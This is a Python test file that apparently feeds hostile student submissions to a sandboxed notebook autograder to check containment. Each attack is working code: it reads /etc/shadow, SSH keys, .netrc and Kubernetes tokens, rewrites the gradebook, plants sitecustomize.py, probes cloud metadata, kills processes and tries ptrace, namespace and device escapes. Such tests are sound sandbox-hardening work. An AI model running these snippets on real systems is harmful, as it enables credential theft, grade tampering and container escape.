"""Attacks that reach for others: files, processes, the network, the gradebook."""

from __future__ import annotations

from tests.hostile.attack import Attack, first

#: Calls of the system's C library, whose failures are not exceptions.
LIBC = "import ctypes\nimport os\n\nlibc = ctypes.CDLL(None, use_errno=True)\n"


def reading(*paths: str) -> str:
    """Return code that prints files."""
    return f"""
for path in {list(paths)!r}:
    try:
        with open(path, errors="replace") as file:
            print(file.read(5000))
    except OSError as error:
        print(error)
"""


ATTACKS = (
    Attack(
        "files",
        "Reads the course's directory, the grader's home and the usual places of credentials.",
        first(
            reading(
                "@COURSE@/answers.txt",
                "@COURSE@/source/answers.txt",
                "@COURSE@/submitted/aaa-right/ps1/notes.txt",
                "@COURSE@/gradebook.db",
                "@HOME@/.netrc",
                "/etc/shadow",
                "/etc/passwd",
                "@HOME@/.ssh/id_rsa",
                "/var/run/secrets/kubernetes.io/serviceaccount/token",
            )
        ),
    ),
    Attack(
        "doors_in_proc",
        "Goes out through the root, working directory and open files of other processes in /proc.",
        first(f"""{LIBC}
import glob

for door in glob.glob("/proc/[0-9]*/root") + glob.glob("/proc/[0-9]*/cwd") + glob.glob(
    "/proc/[0-9]*/fd/*"
) + glob.glob("/proc/[0-9]*/task/*/root"):
    for path in ("@COURSE@/answers.txt", "@HOME@/.netrc", "answers.txt"):
        for way in (door + "/" + path, door + "/../../../../.." + path):
            try:
                with open(way) as file:
                    print(file.read())
            except OSError:
                pass"""),
    ),
    Attack(
        "environment_of_others",
        "Reads the environment and memory of each process that it can see.",
        first("""
import glob

for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
    try:
        with open(path, errors="replace") as file:
            print(file.read())
    except OSError as error:
        print(error)
import os
print(os.environ)"""),
    ),
    Attack(
        "gradebook",
        "Gives itself extra credit in the gradebook and others none.",
        first("""
import glob
import sqlite3

for path in ["@COURSE@/gradebook.db", *glob.glob("../**/gradebook.db", recursive=True)]:
    try:
        with sqlite3.connect(path) as book:
            book.execute("update grade set auto_score = 99, extra_credit = 99")
    except sqlite3.Error as error:
        print(error)
try:
    from nbgrader.api import Gradebook
    with Gradebook("sqlite:///@COURSE@/gradebook.db") as book:
        for student in book.students:
            book.remove_student(student.id)
except Exception as error:
    print(error)"""),
    ),
    Attack(
        "written_elsewhere",
        "Writes into the course, other submissions, Python's packages, the system and the grader.",
        first("""
import os
import sysconfig

places = ["@COURSE@", "@COURSE@/source", "@COURSE@/submitted/aaa-right/ps1", "@HOME@", "/etc",
          "/usr", "/var/tmp", "/", "/tmp/..", sysconfig.get_path("purelib"),
          os.path.dirname(os.__file__)]
for place in places:
    for name in ("answers.txt", "evil.pth", "sitecustomize.py", "notes.txt", ".bashrc"):
        try:
            with open(os.path.join(place, name), "w") as file:
                file.write("import os")
            print("WROTE", place, name)
        except OSError:
            pass"""),
    ),
    Attack(
        "network",
        "Connects to the grader's machine, to name servers and to a cloud's metadata.",
        first("""
import socket

for host in ("127.0.0.1", "localhost", "0.0.0.0", "::1", "10.0.0.1", "172.17.0.1",
             "169.254.169.254", "8.8.8.8"):
    for port in (@PORT@, 53, 80, 22):
        try:
            socket.create_connection((host, port), 0.1).sendall(b"here I am")
            print("CONNECTED", host, port)
        except OSError:
            pass
try:
    print(socket.getaddrinfo("pypi.org", 443))
except OSError as error:
    print(error)
for family, kind in ((socket.AF_INET, socket.SOCK_RAW), (socket.AF_PACKET, socket.SOCK_RAW),
                     (socket.AF_NETLINK, socket.SOCK_RAW)):
    try:
        socket.socket(family, kind, 1).send(b"x" * 64)
    except OSError as error:
        print(error)"""),
    ),
    Attack(
        "abstract_socket",
        "Connects to sockets of the grader's machine whose names are no files.",
        first("""
import socket

for name in ("@ABSTRACT@", "/tmp/.X11-unix/X0", "/tmp/dbus"):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
        try:
            client = socket.socket(socket.AF_UNIX, kind)
            client.connect("\\0" + name)
            print("CONNECTED", name)
        except OSError as error:
            print(error)
try:
    print(open("/proc/net/unix").read())
except OSError as error:
    print(error)"""),
    ),
    Attack(
        "signals",
        "Sends signals to every process number there may be, and to all at once.",
        first("""
import os
import signal

me = {os.getpid(), 1}
for pid in [os.getppid(), *range(2, 40000)]:
    if pid in me:
        continue
    try:
        os.kill(pid, signal.SIGKILL)
        print("KILLED", pid)
    except OSError:
        pass
for pid in (1, 0):
    os.kill(pid, 0)"""),
        verdicts=("error", "crash", "fail", "memory"),
    ),
    Attack(
        "init",
        "Kills and stops the first process behind its wall.",
        first(f"""{LIBC}
import signal

for kind in (signal.SIGKILL, signal.SIGTERM, signal.SIGINT, signal.SIGSEGV, signal.SIGSTOP):
    try:
        os.kill(1, kind)
    except OSError as error:
        print(error)"""),
    ),
    Attack(
        "ptrace",
        "Attaches to its parents as a debugger, and reads and writes their memory.",
        first(f"""{LIBC}
import glob


class Piece(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


buffer = ctypes.create_string_buffer(64)
here, there = Piece(ctypes.addressof(buffer), 64), Piece(0x400000, 64)
pids = {{1, os.getppid(), *(int(p[6:]) for p in glob.glob("/proc/[0-9]*"))}}
for pid in sorted(pids - {{os.getpid()}}):
    for request in (16, 0x4206):
        print(pid, libc.ptrace(request, pid, None, None), ctypes.get_errno())
    print(libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0))
    print(libc.process_vm_writev(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0))
    for name in ("mem", "maps", "stack", "syscall", "auxv"):
        try:
            print(open(f"/proc/{{pid}}/{{name}}", "rb").read(100))
        except OSError as error:
            print(error)"""),
    ),
    Attack(
        "namespaces",
        "Makes itself root of new namespaces and mounts what it was not shown.",
        first(f"""{LIBC}
for flags in (0x10000000 | 0x20000, 0x10000000, 0x20000, 0x40000000, 0x02000000):
    if os.fork() == 0:
        user = os.getuid()
        print(flags, libc.unshare(flags), ctypes.get_errno(), flush=True)
        for name, text in (("setgroups", "deny"), ("uid_map", f"0 {{user}} 1")):
            try:
                with open(f"/proc/self/{{name}}", "w") as file:
                    file.write(text)
            except OSError:
                pass
        os.makedirs("/tmp/new", exist_ok=True)
        for source, kind in (("proc", "proc"), ("tmpfs", "tmpfs"), ("/dev/sda", "ext4"),
                             ("/dev/vda", "ext4"), ("none", "devpts"), ("sysfs", "sysfs")):
            done = libc.mount(source.encode(), b"/tmp/new", kind.encode(), 0, None)
            print(kind, done, flush=True)
        libc.umount2(b"/tmp", 2)
        libc.umount2(b"/", 2)
        libc.pivot_root(b"/tmp", b"/tmp/new")
        for path in ("@COURSE@/answers.txt", "@HOME@/.netrc"):
            try:
                print(open(path).read(), flush=True)
            except OSError as error:
                print(error, flush=True)
        os._exit(0)
    os.wait()
for number in range(1, 40):
    for kind in ("mnt", "pid", "net", "user", "ipc"):
        try:
            print(libc.setns(os.open(f"/proc/{{number}}/ns/{{kind}}", os.O_RDONLY), 0))
        except OSError:
            pass"""),
    ),
    Attack(
        "devices",
        "Opens the devices of the machine, disks and memory among them, and makes some of its own.",
        first("""
import glob
import os

for path in [*glob.glob("/dev/*"), *glob.glob("/dev/*/*"), "/dev/mem", "/dev/kmsg", "/dev/sda",
             "/proc/kcore", "/proc/sysrq-trigger"]:
    if path.startswith(("/dev/fd", "/dev/std", "/dev/tty", "/dev/pt", "/dev/console")):
        continue
    try:
        with open(path, "rb", 0) as file:
            print(path, file.read(64))
    except OSError as error:
        print(path, error)
for number in (1, 5, 8):
    try:
        os.mknod("/tmp/device%d" % number, 0o020666, os.makedev(number, 1))
        print("MADE", number)
    except OSError as error:
        print(error)"""),
    ),
    Attack(
        "descriptors",
        "Reads, and changes directory through, every file descriptor that it inherited.",
        first("""
import os

for number in range(0, 256):
    try:
        link = os.readlink(f"/proc/self/fd/{number}")
        print(number, link)
    except OSError:
        continue
    for path in ("answers.txt", "../answers.txt", "@COURSE@/answers.txt".lstrip("/")):
        try:
            print(os.read(os.open(path, os.O_RDONLY, dir_fd=number), 100))
        except OSError:
            pass
    if not link.startswith(("socket", "anon", "pipe")):
        try:
            print(os.pread(number, 1000, 0))
        except OSError:
            pass"""),
    ),
)
